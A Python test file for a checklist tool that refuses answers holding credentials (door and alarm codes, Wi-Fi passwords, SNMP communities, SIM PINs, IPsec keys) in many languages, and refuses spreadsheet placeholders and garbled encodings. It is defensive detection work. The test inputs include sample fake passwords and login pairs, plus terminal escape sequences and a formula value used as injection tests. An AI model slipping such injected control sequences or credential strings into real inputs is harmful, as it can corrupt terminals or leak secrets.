    'SNMP community nye lome_rw_2024') passed in nine languages (round 58): it is refused within five words of its
    name; a network's, controller's or pointer's name ('SSID lab-north-12', 'item ipsec-site-3') keeps it an answer
    (the strings are in BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too)."""
    assert "'sep\u2026' (16 characters) near 'PSK'" in cl.text_problems("IPsec PSK em sepik-wewak-2026")[0]


@test
def h59_what_a_sheet_or_a_word_form_shows_for_an_empty_cell_is_refused():
    """Round 59 recorded what nobody typed: booleans in Portuguese, Danish, Norwegian, Finnish, Czech, Hungarian,
    Turkish, Greek and Romanian, 'TRUE()', 'Checked'; a zero in other currencies, accounting and fraction formats,
    zero-padded, as a duration, day 0 as a long date; a Word form's placeholder in four languages. Each is refused;
    '0 sites', 'On' and 'sandbox' stay answers (the page reads the same: CSV_CORPUS in test_form.py)."""
    sheet = ("VERDADEIRO", "SAND", "FALSK", "USANN", "EP\u00c4TOSI", "NEPRAVDA", "IGAZ", "DO\u011eRU", "YANLI\u015e",
             "\u0391\u039b\u0397\u0398\u0395\u03a3", "ADEV\u0102RAT", "TRUE()", "Unchecked", "\u00a50", "\u20b90.00",
             "R 0,00", "CHF 0.00", "0,00 kr", "0,00 z\u0142", "USD 0.00", "(0.00)", "0 0/0", "000", "1/0/00",
             "1899-12-30 00:00", "00:00:00.000", "12:00:00 a.m.", "0h00", "0 days 00:00:00",
             "Saturday, January 0, 1900")
    forms = ("Click or tap here to enter text.", "Choose an item.", "Click or tap to enter a date.",
             "Klicken oder tippen Sie hier, um Text einzugeben.", "Cliquez ou appuyez ici pour entrer du texte.",
             "Haga clic o pulse aqu\u00ed para escribir texto.", "Enter text here", "Select...", "Please select")
    doc = cl.parse(shipped_readme())
    item = doc.items["REQ-3"]
    assert [v for v in sheet if "spreadsheet's own value" not in " ".join(cl.format_answer(item, v)[1])] == []
    assert [v for v in forms if "is no answer" not in " ".join(cl.format_answer(item, v)[1])] == []
    assert [v for v in ("0 sites", "On", "sandbox", "R 100", "select vendors only") if cl.format_answer(item, v)[1]] == []


@test
def h59_a_split_password_word_is_read_whole_and_plain_sentences_stay_answers():
    """'Wi-Fi pass-word: otterharbour' was recorded; 'we do not write passwords here.' and 'credential is checked
    against the vendor's list' were refused (round 59)."""
    assert "near 'password'" in cl.text_problems("Wi-Fi pass-word: otterharbour")[0]
    accepted_as_text("we do not write passwords here.", "the credential is checked against the vendor's list")


@test
def h59_codes_passwords_and_community_strings_in_fourteen_more_languages():
    """Round 59 (Hawaiian, Fijian, Aymara, Fula, Tsonga, Venda, Swati, Chechen, Ossetian, Buryat, Udmurt, Esperanto,
    Occitan, Romansh): an alarm's code after or before a local verb for 'press', a Wi-Fi password after a local word for
    it, a door's code with a local word for door, a community string in Esperanto, Occitan and Romansh are refused; a
    Tsonga 'we do not write passwords here' stays an answer (the strings are in BOUND_REFUSED and BOUND_ACCEPTED, which
    the page judges too)."""
    assert "near 'tshikelela'" in cl.text_problems("Ku tima alamu, tshikelela 7724.")[0]


@test
def h59_two_exports_joined_are_named_as_such():
    """Two exports joined with 'cat' were refused for 'more cells than the header has columns' at the second one's
    '#' row (round 59): a row that a byte-order mark or the header again starts is named as where two files meet."""
    with Sandbox(shipped_readme()) as box:
        export = run_main("items", "--profile", "lab", "--format", "csv", "--file", box.doc).stdout
        box.refused("\ufeff" + export + "\ufeff" + export,
                    f"{export.count(chr(10)) + 1}: a byte-order mark or the header again starts this row")
        box.refused("id,answer\nREQ-3,a\nID , Answer\n", "3: a byte-order mark or the header again")


@test
def h60_an_alarms_code_after_any_verb_and_words_of_fourteen_more_languages():
    """Round 60 (Chuvash, Komi, Sardinian, Friulian, Ladino, Manx, Cornish, Upper Sorbian, Tetum, Chamorro, Tahitian,
    Kikuyu, Bambara, Maithili): the number that ends a sentence naming an alarm, after a comma and a verb in any
    language, is refused (round 59 and 60 missed it in 11 and 12 languages); a customer's, a phone's or a model's
    number there stays an answer; password, door and community words, 'opens with' a password, a lower-case letter
    in any script (no model number: 'Атӑл77'); a short word after 'password' at the end ('password haha': 'here') and
    a vault's entry quoted with spaces stay answers (the strings are in BOUND_REFUSED and BOUND_ACCEPTED, which the
    page judges too)."""
    assert "near 'alarm'" in cl.text_problems("Per deactivar l'alarm, smatgai 3029.".replace("smatgai", "frobnicate"))[0]
    assert cl.model_number("CE6881") and not cl.model_number("\u0410\u0442\u04d1\u043b77")


@test
def h60_placeholders_and_put_offs_in_other_languages_and_a_sheets_choices():
    """Round 60 recorded what nobody said: a form's placeholder in other languages ('Votre réponse', 'Ihre Antwort',
    'Short answer text') and 'to be defined' in other languages ('à définir', '待定', 'уточняется'); 'lab;#research'
    (SharePoint's choices) kept 'research' as a comment; 'lab/research' was refused as a user and password. Now the
    first two are no answer, the third names 'research' as an answer, the fourth records both; 'unknown' stays an
    answer and a sheet's apostrophe before a number is dropped ("'4 servers"), not one that starts a word ("'90s-era plan",
    round 68)."""
    doc = cl.parse(shipped_readme())
    text, req1 = doc.items["REQ-3"], doc.items["REQ-1"]
    for value in ("Votre r\u00e9ponse", "Ihre Antwort", "Geben Sie Ihre Antwort ein", "Short answer text", "Your response",
                  "\u00e0 d\u00e9finir", "\u5f85\u5b9a", "\u0423\u0422\u041e\u0427\u041d\u042f\u0415\u0422\u0421\u042f", "t.b.c.",
                  "wird nachgereicht"):
        assert "is no answer" in " ".join(cl.format_answer(text, value)[1]), value
    assert cl.format_answer(text, "unknown") == ("unknown", []) and cl.format_answer(text, "'4 servers") == ("4 servers", [])
    assert cl.format_answer(text, "'90s-era plan") == ("'90s-era plan", [])
    assert cl.format_answer(req1, "lab/research") == ("`lab`, `research`", [])
    assert "'#research' after ';' reads as answers" in cl.format_answer(req1, "lab;#research")[1][0]


@test
def h61_a_wifi_pair_and_an_alarms_last_number_whatever_the_language():
    """Round 61 missed, blind, a guest Wi-Fi's password as the second of two pairs ('Wi-Fi …: name X, <its local
    name> Paj77ntaub') in 12 of 14 languages and an alarm's code before a last verb ('Alarmi qamissagukku 1964
    tooruk.') in 6: both are refused whatever the words, as a 'lo lus zais' the filter has never seen shows; a model,
    channel or queue number there, or a quantity ('3650 days'), stays an answer; 'sim pin' in lower case names a PIN
    (the strings are in BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too)."""
    assert "Paj\u2026" in cl.text_problems("Wi-Fi rau qhua: npe HmongLab, frobnicate Paj77ntaub")[0]
    assert "near 'Alarmi'" in cl.text_problems("Alarmi frobnicate 6154 frobs.")[0]


@test
def h61_placeholders_put_offs_and_a_forms_choices_record_nothing():
    """Round 61 recorded what nobody said: a form's placeholder in 30 more languages ('Мой ответ', '您的回答'), a
    bare 'Answer', 'Choose an option', a checkbox's 'x', a database's '\\N', English put-offs ('work in progress',
    'waiting on vendor'), two put-offs together ('N/A - TBD'), 'not needed: pending'; and Microsoft Forms' 'lab;research;'
    kept 'research' as a comment. Each is refused, and 'None', 'unknown' and 'nil' stay answers."""
    doc = cl.parse(shipped_readme())
    text, req1 = doc.items["REQ-3"], doc.items["REQ-1"]
    for value in ("\u041c\u043e\u0439 \u043e\u0442\u0432\u0435\u0442", "\u60a8\u7684\u56de\u7b54", "Answer",
                  "Choose an option", "x", "\\N", "work in progress", "waiting on vendor", "N/A - TBD", "n/a (tbd)",
                  "not needed: pending"):
        assert cl.format_answer(text, value)[1], value
    assert [v for v in ("None", "unknown", "nil", "Answer: 4 sites") if cl.format_answer(text, v)[1]] == []
    assert "'research;' after ';' reads as answers" in cl.format_answer(req1, "lab;research;")[1][0]


@test
def h61_a_long_number_a_sheet_cut_to_fifteen_digits_is_refused():
    """Excel saves a 20-digit number cut to 15 digits and zeros ('12345678901234500000', round 61): refused as a
    shortened number, as '8.9441E+19' is; a number of 15 or 19 digits of its own stays an answer."""
    item = cl.parse(shipped_readme()).items["REQ-3"]
    assert "a long number a spreadsheet shortened" in cl.format_answer(item, "12345678901234500000")[1][0]
    assert not cl.format_answer(item, "8944100001234567890")[1] and not cl.format_answer(item, "123456789012345")[1]


@test
def h62_pointers_a_phone_extension_and_a_group_stay_answers():
    """Round 62 refused an extension to call for the door code ('ext. 4417'), a directory group ('AD group
    5G-Lab-Admins') and a town's state and ZIP ('Koror, PW 96940'); it missed spaced digits after a code's name in
    another clause ('now it's 5 5 0 9') and a code used 'for every door'. The first three stay answers, the others are
    refused (the strings are in BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too)."""
    accepted_as_text("Ask Priya Shah (ext. 4417) for the door code; we never write it down.")
    assert cl.text_problems("We use 2580 for every door (straight down the keypad).")


@test
def h62_forms_defaults_ditto_marks_and_sheets_dates_record_nothing():
    """Round 62 recorded what nobody typed: Google Forms' 'Option 1' in other languages, 'Untitled question', a file
    picker's 'No file chosen', a default column name ('Spalte1'), ditto marks ('as above', 'wie oben', 'см. выше'),
    'n.v.t.', an empty date cell ('Jan-00', '01.01.1970') and a midnight time a sheet added to a date. Each is refused;
    a date alone, 'Name: Alice Smith' and 'Other vendors: none' stay answers."""
    item = cl.parse(shipped_readme()).items["RES-2"]
    for value in ("Option 1", "\u0412\u0430\u0440\u0438\u0430\u043d\u0442 1", "Untitled question", "No file chosen",
                  "Spalte1", "as above", "wie oben", "\u0441\u043c. \u0432\u044b\u0448\u0435", "n.v.t.", "Jan-00",
                  "01.01.1970", "2026-03-14 00:00:00", "Mar 14, 2026, 12:00:00 AM"):
        assert cl.format_answer(item, value)[1], value
    assert [v for v in ("2026-03-14", "2026-03-14 09:00", "Name: Alice Smith", "Other vendors: none")
            if cl.format_answer(item, v)[1]] == []


@test
def h62_text_garbled_by_a_wrong_encoding_is_refused():
    """'CafÃ© MÃ¼ller' (UTF-8 read once more as Windows-1252) was recorded (round 62): refused with what to do;
    'NÃO' and 'São Paulo' stay answers."""
    assert "garbled by a wrong encoding" in cl.text_problems("Caf\u00c3\u00a9 M\u00c3\u00bcller lab")[0]
    accepted_as_text("N\u00c3O se aplica: sem r\u00e1dio", "S\u00e3o Paulo lab, 2 sites")


@test
def the_names_sought_in_lower_case_find_what_they_find_in_any_case():
    """The credential's and code's names the checklist's own lines are first searched for in lower case, without
    IGNORECASE (lowered: 'PIN', 'Fraza hasła', '\u041f\u0406\u041d' in lower case), find a name in the same texts as
    the names themselves: every line of README.md and every refused and accepted text of the tests."""
    texts = [cl.scanned(t) for t in (*shipped_readme().splitlines(), *BOUND_REFUSED, *BOUND_ACCEPTED, *CONTEXT_REFUSED,
                                     *CONTEXT_ACCEPTED, "PIN 1234", "\u041f\u0406\u041d: 1234", "Fraza has\u0142a: x")]
    for name in (cl.BOUND_NAME, cl.CREDENTIAL_WORD, cl.SIM_WORD):
        fast = cl.lowered(name)
        assert [t for t in texts if bool(name.search(t)) != bool(fast.search(t.lower()))] == [], name.pattern[:40]


@test
def h65_codes_after_an_upper_case_name_a_coloured_key_communities_with_other_suffixes_and_quoted_passphrases():
    """Round 65: 'DOOR 5830' (a name in capitals), '2208, then the green key', an alarm switched off in Galician and
    Slovenian, Irish 'cód', a one-time code of four groups, communities such as 'zabbix-read-42' or 'hk_ro_7' where SNMP
    or v2c is named, 'CHV1', 'unblock code', 'P.W.:', a Wi-Fi key given to connect or quoted as a passphrase. A model's
    letters, a file's name after 'community names', a password rule in Amharic or Hiligaynon stay answers
    (BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too)."""
    assert "near 'DOOR'" in cl.text_problems("SERVER ROOM DOOR 5830")[0]
    assert "near 'SNMP'" in cl.text_problems("Monitoring polls with v2c using 'zabbix-read-42'")[0]
    accepted_as_text("Karat MT 550 door lock", "SNMP community names are in Ansible vault file group_vars/snmp.yml")


@test
def h66_a_bare_code_net_snmp_lines_a_log_in_as_and_lists_of_backup_codes_are_refused():
    """Round 66: 'code 5830' where nothing says what kind of code, 'rocommunity heron_ro', 'log into the U2020 as opsadmin
    with Puffin7', 'backup 4471 2290 6675 1042 8812', a seed phrase with one common word among its twelve; 'error code
    5830', an account's number near 'PIN', alarms listed with severities and racks' numbers near a cage stay answers
    (BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too). A database's placeholder date ('9999-12-31') is no
    answer."""
    assert "near 'code'" in cl.text_problems("code 5830")[0]
    assert "near 'opsadmin'" in cl.text_problems("We log into the U2020 as opsadmin with Puffin7")[0]
    accepted_as_text("error code 5830", "Alarm 2580 critical, 2581 major, 2582 minor; destinations NOC Leeds")
    item = cl.parse(shipped_readme()).items["RES-2"]
    assert "spreadsheet's own value" in cl.format_answer(item, "9999-12-31")[1][0]
    assert "turned into a date" in cl.format_answer(item, "03. Apr")[1][0]


@test
def h68_shared_keys_under_any_name_where_ipsec_is_named_codes_told_in_pieces_and_listed_codes_are_refused():
    """Round 68: a passphrase of words and a number anywhere in a text naming IPsec or IKE ('moss-harbor-3310 on both
    peers (IKEv2)'), after 'secret' or FortiOS's 'psksecret'; a code's halves ('first two digits 82, last two 64'), read
    as tens ('twenty-eight sixty-four'), typed with how to type it, or spelled near a login; 'delete this' asks for
    secrecy; pySim's 'verify_chv'; codes listed after a word holding 'code' in any language or after 'bypass'; door
    numbers in Chinese and Korean; alarms in Chinese, Korean, Kannada and Karelian. A Windows share after 'Password
    manager:', alarms' IDs listed with severities in Kashmiri, a host with its padded number where IPsec is named and an
    Indian PIN code in Kannada stay answers (BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too). The
    patterns stay linear on a long run of letters that carry vowel signs."""
    assert "'mos\u2026' (16 characters)" in cl.text_problems("moss-harbor-3310 on both peers (IKEv2, S1 and X2)")[0]
    assert "near 'keypad'" in cl.text_problems("First two digits 82, last two 64 (B2 comms keypad)")[0]
    accepted_as_text("IPsec tunnels to london-gateway-01 and madrid-gateway-02",
                     "Password manager: KeePassXC database ops.kdbx on \\\\nas01\\ops, read by NOC group")
    quick(lambda: [cl.text_problems(text + "\u0921" * 1990) for text in ("IPsec code ", "codes: ", "password ")], 0.6)


@test
def h69_monitoring_tools_communities_a_pin_table_and_codes_in_more_scripts_are_refused():
    """Round 69: a community given to check_snmp or pysnmp, a PIN sent with AT+CLCK or listed under 'pin;puk', the answer
    after a question naming credentials ('omc creds? dan: … Ternpass44'), "don't write it", a PIN's value cut at a
    full-width comma, a passphrase in lower case where Wi-Fi is named (any number of letters per word, seven in all),
    codes in Dari, Japanese and Ethiopic, recovery codes in Chinese, door locks and alarms in Chinese, Japanese and
    Tigre. A keypad's model number ('Paxton 1100 model'), an extension in Dari, 'エラーコード' and access points' names
    stay answers (BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too)."""
    assert "near a password's name" in cl.text_problems("check_snmp -H 10.0.0.2 -C ravenlook -o sysUpTime.0")[0]
    assert "SIM card's access code" in cl.text_problems("PIN \u4fc2 5527\uff0cPUK sent separately")[0]
    accepted_as_text("Keypad on the B3 door is a Paxton 1100 model, firmware 4.2; codes issued per visitor")


@test
def h70_communities_where_snmp_is_named_alarms_disarmed_with_a_code_and_spelled_values_are_refused():
    """Round 70: a passphrase in lower case anywhere in a text naming SNMP (whatever the word for 'community'), not a
    host's name after 'to' or 'by'; 'disarmed with code 2291'; '2291 for the alarm'; a password spelled letter by letter
    with its digits; alarms in Bengali and katakana; codes in Ge'ez. A Bengali word joined by ZWJ before a virama
    ('র‍্যাক', rack) is spelling, not a hidden character (BOUND_REFUSED and BOUND_ACCEPTED, which the page judges too)."""
    assert "near 'SNMP'" in cl.text_problems("SNMP \u30b3\u30df\u30e5\u30cb\u30c6\u30a3 shiraoi-kuma-85")[0]
    assert "near 'disarmed'" in cl.text_problems("user 2 disarmed with code 2291 (zone 4)")[0]
    assert cl.hidden_characters("\u09b0\u200d\u09cd\u09af\u09be\u0995") == []
    assert cl.hidden_characters("a\u200d\u0301") == ["\u200d"]


@test
def h71_a_passphrase_after_a_password_in_any_language_and_codes_dictated_are_refused():
    """Round 71: a lower-case passphrase anywhere in a text naming a password in any language ('पासवर्ड
    litti-chokha-31'), a community of six letters where SNMP is named ('spv-noc-907'), Windows' ValidCommunities, a
    value dictated ', all one word', a number after its length ('4-digit 2718'), 'open with 6604', alarms in Thai, Odia
    and Burmese, Zazaki 'Kodê'. An extension in Thai ('ต่อ 2217') or 'ask Somchai on 2217', 'PIN is a 4-digit number'
    stay answers; a routing token with two digits is not echoed (BOUND_REFUSED and BOUND_ACCEPTED, which the page
    judges too)."""
    assert "'2\u2026' (4 characters)" in cl.text_problems("rub-off panel on the SIM carrier: 4-digit 2718 / 8-digit 31415926")[0]
    accepted_as_text("Door codes are held by Facilities, ask Somchai on 2217")
    assert cl.token_shown("litti-chokha-31") == cl.DIGITS_LIKE


@test
def h72_a_password_in_capitals_groups_of_capitals_and_digits_and_a_phonetic_spelling_are_refused():
    """Round 72: capitals and digits after a password's, PSK's or community's name ('password HERO99') are a password
    unless they name a standard or scheme ('SHA256', 'RFC7519'), a ticket ('INC0012345') or hold '-' ('FSK-03'); three
    groups of capitals and digits under any name ('2KFW-8TQA, 5NZC-61RU, H7MX-30PD'); a value in the phonetic alphabet
    ('Hotel Echo Romeo Oscar Nine Nine') or digits spelled near a SIM's PIN (BOUND_REFUSED and BOUND_ACCEPTED, which
    the page judges too)."""
    assert "'HE\u2026' (6 characters)" in cl.text_problems("password HERO99")[0]
    accepted_as_text("password: SHA256 hashed", "credentials: INC0012345")


@test
def h65_programs_dates_for_none_and_ranges_a_sheet_turned_into_dates_are_refused():
    """Round 65: MySQL's '0000-00-00', Go's '0001-01-01 00:00:00 +0000 UTC', Windows' '1601-01-01', the Unix epoch as
    date(1) or JavaScript print it and 'Invalid Date' are a program's value for no date; '04-Mar' or '4-mars' is a range
    ('3-4') a sheet turned into a date. All refused with what to do; '4 May' and '1 Jan 2027' are answers."""
    item = cl.parse(shipped_readme()).items["RES-2"]
    for value in ("0000-00-00", "0001-01-01 00:00:00 +0000 UTC", "1601-01-01", "Thu Jan  1 00:00:00 UTC 1970",
                  "Invalid Date"):
        assert "spreadsheet's own value" in cl.format_answer(item, value)[1][0], value
    # round 69: Excel's day number for a date ('46096', 2026-03-15) where the Form asks for dates; a count elsewhere
    assert "stored as its day number" in cl.format_answer(item, "46096")[1][0]
    assert cl.format_answer(cl.parse(shipped_readme()).items["REQ-3"], "46096") == ("46096", [])
    assert cl.format_answer(item, "NaN-NaN-NaN")[1]
    for value in ("04-Mar", "Mar-04", "04.M\u00e4r", "4-mars", "78-Mar"):
        assert "turned into a date" in cl.format_answer(item, value)[1][0], value
    assert [v for v in ("4 May", "1 Jan 2027", "MAR-2 site") if cl.format_answer(item, v)[1]] == []


@test
def h64_a_sheets_day_zero_in_japanese_and_text_garbled_from_any_script_are_refused():
    """Round 64: Excel's day 0 in a Japanese locale ('1900/1/0', '1900年1月0日') and 'ERROR' alone are a sheet's own
    values; 'ÐŸÐµÑ€Ð¼ÑŒ' (Cyrillic read once more as Windows-1252), Greek and Japanese likewise, and a replacement
    character ('M\ufffdnchen') are garbled text: all refused. Latin-1 names ('Øresund', 'À bientôt') stay answers."""
    item = cl.parse(shipped_readme()).items["RES-2"]
    for value in ("1900/1/0", "1900\u5e741\u67080\u65e5", "ERROR"):
        assert "spreadsheet's own value" in cl.format_answer(item, value)[1][0], value
    for value in ("\u00d0\u0178\u00d0\u00b5\u00d1\u20ac\u00d0\u00bc\u00d1\u0152 614000", "\u00ce\u2018\u00ce\u00b8\u00ce\u00ae\u00ce\u00bd\u00ce\u00b1 10552",
                  "\u00e4\u00ba\u00ac 100-0001", "M\ufffdnchen 80802"):
        assert "garbled by a wrong encoding" in cl.text_problems(value)[0], value
    accepted_as_text("\u00d8resund 2\u00d710 GHz", "\u00c0 bient\u00f4t", "S\u00e3o Paulo \u2014 Brasil")


@test
def h64_an_snmp_read_string_a_login_pair_and_a_passphrase_in_an_indic_script():
    """Round 63's last English misses ('using the read string \'labview2\'', 'works with operator and
    sunflower-lamp-42') and others of its languages: a Wi-Fi password after a label of five words or one with an
    apostrophe ("'t wachwaord is"), a community after 'SNMP:', Walloon's and Bodo's word for a code, a passphrase whose
    words carry Devanagari vowel signs. Products, units and a strict rule stay answers (in BOUND_REFUSED and
    BOUND_ACCEPTED, which the page judges too)."""
    assert "near 'read string'" in cl.text_problems("Traps using the read string 'labview2'")[0]
    assert "near 'operator'" in cl.text_problems("Web UI works with operator and sunflower-lamp-42")[0]
    accepted_as_text("works with Open5GS and free5GC", "read string length 32")


@test
def h64_a_lower_case_pin_a_community_named_as_communities_are_and_codes_apart_by_spaces():
    """Round 64: 'pin 5809', 'PIN5809', 'AT+CPIN=5809'; a community such as 'asturies_ro7' or 'publicro7' in a text
    naming SNMP, whatever its words; recovery codes apart by a space alone; 'code4471'; a number with 'keep it to
    yourself'. A connector's pin, a vault entry, round ranges of ports and a ticket stay answers (BOUND_REFUSED and
    BOUND_ACCEPTED, which the page judges too)."""
    assert "SIM card" in cl.text_problems("pin 5809")[0] or "near 'pin'" in cl.text_problems("pin 5809")[0]
    assert "near 'SNMP'" in cl.text_problems("Cumunit\u00e0 SNMP: trinacria_ro3")[0]
    assert cl.text_problems("Tingaltin n tririt: 7291-4408 1056-8832")
    accepted_as_text("pin 12 of the connector", "ports 5000-5999 7000-7999 open")


@test
def h63_an_alarms_code_after_its_label_and_a_wifi_password_after_a_comma():
    """Round 63 varied the shapes: 'Alarm: <a verb> 2580 <more words>' in 9 languages and 'guest Wi-Fi, <its local
    name for password> Waterkant77' in 5 were recorded. Both are refused whatever the words; a unit, a ticket or a
    model's capitalised name before the number, or a plan's name, keeps an answer (the strings are in BOUND_REFUSED and
    BOUND_ACCEPTED, which the page judges too). Placeholders ('FIXME', '{{HW-8}}', 'see attached'), localised sheet
    errors ('#ЗНАЧ!') and Mac Excel's day 0 ('1904-01-01') are no answer."""
    assert "near 'Alarm'" in cl.text_problems("Alarm: frobnicate 2580 then leave")[0]
    item = cl.parse(shipped_readme()).items["RES-2"]
    for value in ("#\u0417\u041d\u0410\u0427!", "FIXME", "{{HW-8}}", "see attached", "1904-01-01"):
        assert cl.format_answer(item, value)[1], value
    assert not cl.format_answer(item, "see attached minutes of 3 May for the dates")[1]


@test
def h74_a_sheets_row_problems_and_its_answers_problems_show_in_one_run():
    """Round 74: a comment typed in a column that is not recorded hid the other rows' problems (an unknown ID, a
    control character) until it was fixed; every row's problem is shown at once, and nothing is written."""
    with Sandbox() as box:
        refused_exactly(box, "id,answer,comment\nREQ-3,36,a note\nHW-8\x1b]0;x\x07,Rack 12,\n"
                             "DEL-1,\x1b[2JNETCONF,\n",
                        "2: " + cl.UNREAD_MESSAGE.format("comment"),
                        "3: 'HW-8\\u001b]0;x\\u0007' is not an item of the checklist",
                        "4: DEL-1: the answer holds an invisible or control character (U+001B); retype it as plain text")


@test
def h76_a_phone_number_typed_with_a_full_width_plus_is_an_answer():
    """Round 76: '＋86 138 0013 8000', as CJK input methods type it, was refused as a formula while '+86 …' was
    recorded; both are answers now, and '＋SUM(A1)' is still refused."""
    item = cl.parse(shipped_readme()).items["RES-2"]
    assert cl.format_answer(item, "\uff0b86 138 0013 8000") == ("\uff0b86 138 0013 8000", [])
    assert "formula" in cl.format_answer(item, "\uff0bSUM(A1)")[1][0]


@test
def h82_a_page_written_to_a_pipe_whose_reader_never_reads_gives_up():
    """H82-D2: `form -o FIFO` whose reader opened the pipe and never read waited for ever once the pipe was full; now
    each part the reader takes may take FIFO_WAIT seconds, all of them FIFO_DEADLINE, and then the page is refused
    with exit 2, saying how much the reader took."""
    wait, limit = cl.FIFO_WAIT, cl.FIFO_DEADLINE
    with tempfile.TemporaryDirectory() as tmp:
        fifo = os.path.join(tmp, "page.html")
        os.mkfifo(fifo)
        reader = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        cl.FIFO_WAIT, cl.FIFO_DEADLINE = 0.2, 0.6
        try:
            started = time.monotonic()
            result = run_main("form", "-o", fifo, "--file", README)
            took = time.monotonic() - started
        finally:
            cl.FIFO_WAIT, cl.FIFO_DEADLINE = wait, limit
            os.close(reader)
    assert result.returncode == 2 and "then stopped reading" in result.stderr and took < 5, (result, took)


@test
def h83_a_credential_typed_into_the_outside_context_fails_check():
    """H83-M1: the outside context, which packets and pages copy, is judged as an item's lines are: a user and password
    typed by hand after a bullet's text fails check on that line, and no view prints it."""
    lines = README.read_text(encoding="utf-8").split("\n")
    k = next(n for n, line in enumerate(lines) if line.startswith("  - **Executive Order 13873**"))
    lines[k] += " OSS read-only acct  u: ericsson_ro  p: 8uhb*UHB"
    with Sandbox("\n".join(lines)) as box:
        result = box.run("check")
        assert result.returncode == 1 and f"README.md:{k + 1}: [secret]" in result.stdout, result
        listed = box.run("items", "--profile", "buyer")
        assert listed.returncode == 1 and "8uhb" not in listed.stdout + listed.stderr, listed
